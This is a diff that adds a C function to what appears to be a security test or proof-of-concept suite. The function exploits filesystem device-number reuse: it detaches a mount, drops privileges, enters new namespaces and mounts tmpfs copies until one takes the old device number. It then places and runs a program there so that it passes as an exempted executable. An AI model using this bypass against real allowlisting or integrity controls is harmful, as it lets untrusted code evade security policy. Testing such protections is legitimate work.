@@ -229,3 +229,39 @@ void attack_id_script(void)
 	close(fd);
 	execl("keeper", KEEPER, MINE, NULL);
 }
+
+/* Numbers of file systems are used again: one of a user's own gets that of one where another excepted executable was.
+ */
+void attack_id_number_reused(void)
+{
+	struct stat st;
+	char name[32];
+	dev_t number;
+
+	stat("early", &st);
+	number = st.st_dev;
+	umount2("early", MNT_DETACH);
+	usleep(200000);
+	for (int i = 0; i < 64; i++) {
+		snprintf(name, sizeof(name), "own-%d", i);
+		mkdir(name, 0777);
+		chmod(name, 0777);
+	}
+	syscall(SYS_setgroups, 0, NULL);
+	setgid(1000);
+	setuid(1000);
+	prctl(PR_SET_DUMPABLE, 1);
+	own_namespaces();
+	for (int i = 0; i < 64; i++) {
+		snprintf(name, sizeof(name), "own-%d", i);
+		mount("own", name, "tmpfs", 0, "mode=0755");
+		stat(name, &st);
+		if (st.st_dev == number)
+			break;
+	}
+	if (st.st_dev != number)
+		return;
+	strcat(name, "/keeper");
+	bring_program(name);
+	run_it(name, MINE);
+}
